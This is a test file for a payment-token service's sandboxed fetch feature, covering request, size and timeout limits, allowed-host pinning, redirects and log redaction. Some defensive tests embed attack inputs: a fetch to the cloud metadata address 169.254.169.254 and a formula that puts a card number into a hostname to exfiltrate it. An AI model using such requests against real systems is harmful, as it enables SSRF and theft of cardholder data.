import { describe, expect, it, vi } from "vitest";
import { logger } from "#shared/logger.ts";
import { client, createTenant } from "#test/support/http.ts";
import { useLocalServer } from "#test/support/local-server.ts";
import { createOpenProxy } from "#test/support/proxies.ts";
import { createReactor } from "#test/support/reactors.ts";
import { useService } from "#test/support/service.ts";
import { appKey, type TokenBody, VISA } from "#test/support/tokens.ts";

// Small limits, so each is reached quickly: 3 requests, 64 KiB each way, 1.5 s per request (a loaded machine
// answers a local request well within that).
Object.assign(process.env, {
  SVC_SYNC_REACT_TIMEOUT_MS: "8000",
  SVC_SANDBOX_FETCH_MAX_REQUESTS: "3",
  SVC_SANDBOX_FETCH_MAX_BYTES_OUT: String(64 * 1024),
  SVC_SANDBOX_FETCH_MAX_BYTES_IN: String(64 * 1024),
  SVC_SANDBOX_FETCH_TIMEOUT_MS: "1500",
});
const svc = useService({ allowPrivateDestinations: true });

interface Hit {
  method: string;
  path: string;
  body: string;
}

/** The partner the code calls: it records every request it gets. */
const hits: Hit[] = [];
const partner = useLocalServer((req, res, raw) => {
  const body = raw.toString("utf8");
  const path = req.url ?? "/";
  hits.push({ method: req.method ?? "", path, body });
  if (path.startsWith("/hang")) return; // never answers
  if (path.startsWith("/big")) {
    res.end("x".repeat(100 * 1024));
    return;
  }
  if (path.startsWith("/redirect")) {
    const to = new URL(path, "http://x").searchParams.get("to") ?? "/";
    res.writeHead(302, { location: to }).end();
    return;
  }
  res.setHeader("content-type", "application/json");
  res.end(JSON.stringify({ received: body ? JSON.parse(body) : null, path, method: req.method }));
});

const hitsOn = (prefix: string) => hits.filter((hit) => hit.path.startsWith(prefix));

/** A tenant with a reactor running `code` as a private application; the formula takes `card` (a token). */
async function reactorRunning(code: string, formula: Record<string, unknown> = {}) {
  const { api, tenant, reactorId } = await createReactor(svc, {
    formula: {
      name: "partner call",
      code,
      request_parameters: [{ name: "card.number", type: "string", optional: true }],
      ...formula,
    },
    permissions: ["token:create", "token:use"],
    reactorName: "r",
  });
  const user = await appKey(api, tenant.managementKey, {
    type: "private",
    permissions: ["token:create", "token:use"],
  });
  return {
    react: (args: unknown = {}) =>
      api.post<Record<string, unknown>>(`/reactors/${reactorId}/react`, { key: user, body: { args } }),
    api,
    user,
  };
}

const PLAIN_CALL = (path: string) => `module.exports = async function () {
  const res = await fetch("${partner.url}${path}");
  return { raw: { status: res.status } };
};`;

/** Another tenant's ordinary run, after a run that failed on a limit. */
async function anotherTenantStillCalls() {
  const other = await reactorRunning(PLAIN_CALL("/other"));
  const res = await other.react();
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  expect(res.body).toEqual({ raw: { status: 200 } });
}

/** A formula returning what its fetch rejected with (name, type, message), or the status it got. */
const CAUGHT = (body: string) => `module.exports = async function (req) {
  try {
    ${body}
    return { raw: { ok: true } };
  } catch (error) {
    return { raw: { name: error.name, type: error.type, message: error.message, isTypeError: error instanceof TypeError } };
  }
};`;

describe("fetch in reactor formulas", () => {
  it("sends detokenized data to the partner with node-fetch and answers the partner's reply; logs no body", async () => {
    const info = vi.spyOn(logger, "info");
    const { react, api, user } = await reactorRunning(`const fetch = require("node-fetch");
      module.exports = async function (req) {
        const res = await fetch("${partner.url}/charge", {
          method: "POST",
          headers: { "content-type": "application/json", authorization: "Bearer partner-secret" },
          body: JSON.stringify({ number: req.args.card.number, amount: 500 }),
        });
        if (!res.ok) throw new Error("charge failed");
        return { raw: { status: res.status, reply: await res.json(), type: res.headers.get("content-type") } };
      };`);
    const card = await api.post<TokenBody>("/tokens", {
      key: user,
      body: { type: "card", data: { number: VISA, expiration_month: 1, expiration_year: 2031 } },
    });

    const res = await react({ card: `{{ ${card.body.id} }}` });

    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.raw).toEqual({
      status: 200,
      reply: { received: { number: VISA, amount: 500 }, path: "/charge", method: "POST" },
      type: "application/json",
    });
    const logged = info.mock.calls.filter(([message]) => message === "Outbound fetch");
    expect(logged).toHaveLength(1);
    expect(logged[0]?.[1]).toMatchObject({
      host: "(not in allowed_hosts)", // the code wrote it: it may carry data (an allowed_hosts entry is logged)
      method: "POST",
      status: 200,
      bytesOut: expect.any(Number),
      bytesIn: expect.any(Number),
      ms: expect.any(Number),
    });
    expect(JSON.stringify(logged)).not.toContain(VISA);
    expect(JSON.stringify(logged)).not.toContain("partner-secret");
    info.mockRestore();
  });

  it("offers timers and microtasks inside the run", async () => {
    const { react } = await reactorRunning(`module.exports = async function () {
      const order = [];
      await new Promise((resolve) => setTimeout(resolve, 20));
      order.push("timeout");
      let ticks = 0;
      await new Promise((resolve) => {
        const every = setInterval(() => { if (++ticks === 3) { clearInterval(every); resolve(); } }, 5);
      });
      order.push("interval");
      await new Promise((resolve) => setImmediate(resolve));
      order.push("immediate");
      await new Promise((resolve) => queueMicrotask(resolve));
      order.push("microtask");
      const cancelled = setTimeout(() => order.push("cancelled ran"), 1);
      clearTimeout(cancelled);
      await new Promise((resolve) => setTimeout(resolve, 10));
      return { raw: { order, ticks } };
    };`);

    const res = await react();

    expect(res.body).toEqual({ raw: { order: ["timeout", "interval", "immediate", "microtask"], ticks: 3 } });
  });

  it("cancels what a run scheduled when it returns: a call planned for later never happens", async () => {
    const { react } = await reactorRunning(`module.exports = async function () {
      setTimeout(() => fetch("${partner.url}/late-timeout"), 200);
      setInterval(() => fetch("${partner.url}/late-interval"), 100);
      return { raw: "answered" };
    };`);

    const res = await react();
    await new Promise((resolve) => setTimeout(resolve, 700));

    expect(res.body).toEqual({ raw: "answered" });
    expect(hitsOn("/late")).toEqual([]);
  });

  it("refuses metadata and internal addresses (the proxies' rule) with a clear FetchError", async () => {
    const { react } = await reactorRunning(
      CAUGHT(`await fetch("http://169.254.169.254/latest/meta-data/");`),
    );
    const internal = await reactorRunning(CAUGHT(`await fetch("${svc.url}/healthz");`));

    const metadata = await react();
    const self = await internal.react();

    for (const res of [metadata, self])
      expect(res.body.raw).toEqual({
        name: "FetchError",
        type: "refused",
        message: expect.stringContaining("the destination address is not allowed"),
        isTypeError: true,
      });
  });

  it("answers an uncaught refusal as a problem+json 500, and another tenant's next run is unaffected", async () => {
    const { react } = await reactorRunning(`module.exports = async function () {
      await fetch("http://169.254.169.254/");
    };`);

    const res = await react();

    expect(res.status).toBe(500);
    expect(res.headers.get("content-type")).toContain("application/problem+json");
    expect(res.body).toMatchObject({ status: 500 });
    await anotherTenantStillCalls();
  });

  it("logs the allowed_hosts entry a request matched, never a host the code wrote (it may carry token data)", async () => {
    const info = vi.spyOn(logger, "info");
    const { host } = new URL(partner.url);
    const listed = await reactorRunning(CAUGHT(`await fetch("${partner.url}/listed");`), {
      allowed_hosts: [host],
    });
    // The card number as the host's first label: before, `host` in the log line held it.
    const exfiltrating = await reactorRunning(
      CAUGHT(`await fetch("http://" + req.args.card.number + ".invalid/x");`),
    );
    const card = await listed.api.post<TokenBody>("/tokens", {
      key: listed.user,
      body: { type: "card", data: { number: VISA, expiration_month: 1, expiration_year: 2031 } },
    });
    const card2 = await exfiltrating.api.post<TokenBody>("/tokens", {
      key: exfiltrating.user,
      body: { type: "card", data: { number: VISA, expiration_month: 1, expiration_year: 2031 } },
    });

    await listed.react();
    await exfiltrating.react({ card: { number: `{{ ${card2.body.id} | json: '$.number' }}` } });

    const hosts = info.mock.calls.filter(([message]) => message === "Outbound fetch").map(([, line]) => line);
    info.mockRestore();
    expect(card.status).toBe(201);
    expect(hosts).toEqual([
      expect.objectContaining({ host, status: 200 }),
      expect.objectContaining({ host: "(not in allowed_hosts)" }),
    ]);
    expect(JSON.stringify(hosts)).not.toContain(VISA);
  });

  it("keeps detokenized data on the formula's allowed hosts, redirects included", async () => {
    const { host, port } = new URL(partner.url);
    const pinned = await reactorRunning(
      CAUGHT(
        `const res = await fetch("${partner.url}/pinned"); if (res.status !== 200) throw new Error("not ok");`,
      ),
      { allowed_hosts: [host] },
    );
    const elsewhere = await reactorRunning(CAUGHT(`await fetch("${partner.url}/elsewhere");`), {
      allowed_hosts: ["api.example.com", "*.partner.example"],
    });
    const bounced = await reactorRunning(
      CAUGHT(`await fetch("${partner.url}/redirect?to=http://localhost:${port}/bounced");`),
      { allowed_hosts: [host] },
    );

    const ok = await pinned.react();
    const refused = await elsewhere.react();
    const redirected = await bounced.react();

    expect(ok.body.raw).toEqual({ ok: true });
    expect(refused.body.raw).toMatchObject({
      type: "refused",
      message: `request to ${partner.url} refused: ${host} is not one of the allowed hosts`,
    });
    expect(hitsOn("/elsewhere")).toEqual([]);
    expect(redirected.body.raw).toMatchObject({
      type: "refused",
      message: expect.stringContaining("allowed hosts"),
    });
    expect(hitsOn("/bounced")).toEqual([]);
  });

  it("keeps allowed_hosts on the formula and the proxy: shown, replaced by PUT, removed by a null PATCH", async () => {
    const api = client(svc.url);
    const tenant = await createTenant(api, svc.rootKey);
    const key = tenant.managementKey;
    const code = "module.exports = () => ({})";
    const formula = await api.post<{ id: string; allowed_hosts?: string[] }>("/reactor-formulas", {
      key,
      body: { name: "f", code, allowed_hosts: ["api.partner.example", "*.files.example:8443"] },
    });
    const proxy = await api.post<{ id: string; allowed_hosts?: string[] }>("/proxies", {
      key,
      body: { name: "p", destination_url: `${partner.url}/d`, allowed_hosts: ["api.partner.example"] },
    });

    const replaced = await api.put<{ allowed_hosts?: string[] }>(`/reactor-formulas/${formula.body.id}`, {
      key,
      body: { name: "f", code },
    });
    const patched = await api.patch(`/proxies/${proxy.body.id}`, {
      key,
      rawBody: JSON.stringify({ allowed_hosts: null }),
      headers: { "content-type": "application/merge-patch+json" },
    });
    const proxyAfter = await api.get<{ allowed_hosts?: string[] }>(`/proxies/${proxy.body.id}`, { key });

    expect(formula.body.allowed_hosts).toEqual(["api.partner.example", "*.files.example:8443"]);
    expect(proxy.body.allowed_hosts).toEqual(["api.partner.example"]);
    expect(replaced.body).not.toHaveProperty("allowed_hosts");
    expect(patched.status).toBe(204);
    expect(proxyAfter.body).not.toHaveProperty("allowed_hosts");
  });

  it("refuses an invalid allowed_hosts entry when the formula is saved", async () => {
    const api = client(svc.url);
    const tenant = await createTenant(api, svc.rootKey);

    const res = await api.post<{ errors: Record<string, string[]> }>("/reactor-formulas", {
      key: tenant.managementKey,
      body: { name: "f", code: "module.exports = () => ({})", allowed_hosts: ["https://a.example/path"] },
    });

    expect(res.status).toBe(400);
    expect(Object.keys(res.body.errors)).toContain("allowed_hosts.0");
  });

  it("refuses a request beyond the run's request limit, and another tenant's next run is unaffected", async () => {
    const { react } = await reactorRunning(
      CAUGHT(`for (let i = 0; i < 4; i++) await fetch("${partner.url}/count");`),
    );

    const res = await react();

    expect(res.body.raw).toMatchObject({
      name: "FetchError",
      type: "limit",
      message: `request to ${partner.url} refused: a run may make at most 3 requests`,
    });
    expect(hitsOn("/count")).toHaveLength(3);
    await anotherTenantStillCalls();
  });

  it("cuts a response or a request body over the run's byte limits", async () => {
    const { react } = await reactorRunning(CAUGHT(`await (await fetch("${partner.url}/big")).text();`));
    const upload = await reactorRunning(
      CAUGHT(`await fetch("${partner.url}/upload", { method: "POST", body: "y".repeat(100 * 1024) });`),
    );

    const big = await react();
    const sent = await upload.react();

    expect(big.body.raw).toMatchObject({
      type: "max-size",
      message: `response from ${partner.url} is too large: a run may receive at most 65536 bytes`,
    });
    expect(sent.body.raw).toMatchObject({
      type: "max-size",
      message: `request to ${partner.url} refused: a run may send at most 65536 bytes`,
    });
    expect(hitsOn("/upload")).toEqual([]);
    await anotherTenantStillCalls();
  });

  it("times out a hung destination within the run, as a 500 problem+json when uncaught", async () => {
    const caught = await reactorRunning(CAUGHT(`await fetch("${partner.url}/hang-caught");`));
    const uncaught = await reactorRunning(
      `module.exports = async () => { await fetch("${partner.url}/hang"); };`,
    );

    const handled = await caught.react();
    const unhandled = await uncaught.react();

    expect(handled.body.raw).toMatchObject({
      type: "request-timeout",
      message: `request to ${partner.url} timed out after 1500 ms`,
    });
    expect(unhandled.status).toBe(500);
    expect(unhandled.headers.get("content-type")).toContain("application/problem+json");
    // Both ended on the request's 1.5 s timeout (the message says so), not on the run's.
    await anotherTenantStillCalls();
  });
});

describe("fetch in proxy transforms", () => {
  async function proxyWithTransform(code: string, extra: Record<string, unknown> = {}) {
    const proxy = await createOpenProxy(svc.url, svc.rootKey, `${partner.url}/destination`, {
      request_transform: { code },
      ...extra,
    });
    return (body: unknown) =>
      proxy.api.post<Record<string, unknown>>("/proxy", { headers: { "svc-proxy-key": proxy.key }, body });
  }

  it("lets a request transform call out before the request is forwarded", async () => {
    const send = await proxyWithTransform(`module.exports = async function (req) {
      const rate = await (await fetch("${partner.url}/rate", { method: "POST", body: "{}" })).json();
      return { body: { ...req.args.body, rate_path: rate.path }, headers: req.args.headers };
    };`);

    const res = await send({ amount: 1 });

    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({ received: { amount: 1, rate_path: "/rate" }, path: "/destination" });
  });

  it("keeps a transform's calls on the proxy's allowed hosts (generic error to the caller)", async () => {
    const send = await proxyWithTransform(
      `module.exports = async (req) => { await fetch("${partner.url}/not-pinned"); return { body: req.args.body }; };`,
      { allowed_hosts: ["api.example.com"] },
    );

    const res = await send({ amount: 1 });

    expect(res.status).toBe(500);
    expect(JSON.stringify(res.body)).not.toContain("allowed hosts");
    expect(hitsOn("/not-pinned")).toEqual([]);
  });
});
